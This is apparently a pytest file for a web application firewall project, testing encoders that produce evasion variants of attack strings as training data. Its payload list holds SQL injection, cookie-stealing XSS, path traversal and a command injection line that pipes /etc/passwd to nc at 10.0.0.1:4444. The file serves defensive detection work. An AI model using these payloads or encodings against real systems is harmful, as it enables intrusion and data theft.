"""Evasion encoders: each one changes the payload and its standard decoder undoes it."""

from __future__ import annotations

import html
import json
import random
import re
import urllib.parse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from waf_proxy.training import augment

PAYLOADS = [
    "' OR 1=1 -- ",
    "1 UNION SELECT username, password FROM users",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc 10.0.0.1 4444",
    "{{7*7}}",
    "\"><img src=x onerror=alert('é✓')>",
    "admin'/*",
    "emoji 😀 payload",
]

text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)


def decode_unicode_escapes(s: str) -> str:
    """Undo %uXXXX and \\uXXXX escapes (UTF-16 units, so surrogate pairs join up)."""
    units = re.sub(r"(?:%u|\\u)([0-9A-Fa-f]{4})", lambda m: chr(int(m.group(1), 16)), s)
    return units.encode("utf-16", "surrogatepass").decode("utf-16")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_url_roundtrip_and_only_safe_characters(payload: str) -> None:
    out = augment.url(payload, random.Random(1))
    assert urllib.parse.unquote(out) == payload
    assert re.fullmatch(r"(?:[A-Za-z0-9\-._~]|%[0-9A-F]{2})*", out)
    assert out != payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_double_url_needs_two_decodes(payload: str) -> None:
    out = augment.double_url(payload, random.Random(2))
    assert urllib.parse.unquote(urllib.parse.unquote(out)) == payload
    assert "%25" in out
    assert urllib.parse.unquote(out) != payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_unicode_escape_roundtrip(payload: str) -> None:
    for seed in range(4):
        out = augment.unicode_escape(payload, random.Random(seed))
        assert re.search(r"(%u|\\u)[0-9A-Fa-f]{4}", out)
        assert decode_unicode_escapes(out) == payload


def test_unicode_escape_uses_both_styles() -> None:
    styles = {augment.unicode_escape("<a>", random.Random(s))[:2] for s in range(20)}
    assert styles == {"%u", "\\u"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_entities_roundtrip(payload: str) -> None:
    out = augment.html_entities(payload, random.Random(3))
    assert html.unescape(out) == payload
    assert "&" in out and out != payload


def test_html_entities_escapes_literal_ampersand() -> None:
    assert html.unescape(augment.html_entities("a&lt;b", random.Random(0))) == "a&lt;b"


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if any(c.isalpha() for c in p)])
def test_mixed_case_changes_only_case(payload: str) -> None:
    out = augment.mixed_case(payload, random.Random(4))
    assert out.lower() == payload.lower()
    assert out != payload


def test_sql_comments_replaces_spaces_in_sql_only() -> None:
    sql = "1 UNION SELECT username, password FROM users"
    out = augment.sql_comments(sql, random.Random(5))
    assert " " not in out
    assert out.replace("/**/", " ") == sql
    path = "../../../../etc/passwd"
    assert augment.sql_comments(path, random.Random(5)) == path
    assert not augment.applicable("sql_comments", path)
    assert augment.applicable("sql_comments", sql)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_json_unicode_is_valid_json_string_content(payload: str) -> None:
    out = augment.json_unicode(payload, random.Random(6))
    assert json.loads('"' + out + '"') == payload
    assert "\\u" in out


def test_json_unicode_only_applies_inside_json() -> None:
    assert not augment.applicable("json_unicode", "' OR 1=1")
    assert augment.applicable("json_unicode", "' OR 1=1", in_json=True)


def test_apply_is_seeded_and_rejects_unknown_names() -> None:
    for name in augment.ENCODINGS:
        a = augment.apply(PAYLOADS[1], name, random.Random(9))
        b = augment.apply(PAYLOADS[1], name, random.Random(9))
        assert a == b
    with pytest.raises(ValueError, match="unknown encoding"):
        augment.apply("x", "rot13", random.Random(0))


@settings(max_examples=150, deadline=None)
@given(text, st.integers(0, 2**32))
def test_decoders_recover_any_text(payload: str, seed: int) -> None:
    rng = random.Random(seed)
    assert urllib.parse.unquote(augment.url(payload, rng)) == payload
    assert urllib.parse.unquote(urllib.parse.unquote(augment.double_url(payload, rng))) == payload
    assert html.unescape(augment.html_entities(payload, rng)) == payload
    assert json.loads('"' + augment.json_unicode(payload, rng) + '"') == payload
    assert decode_unicode_escapes(augment.unicode_escape(payload, rng)) == payload
    assert augment.mixed_case(payload, rng).lower() == payload.lower()
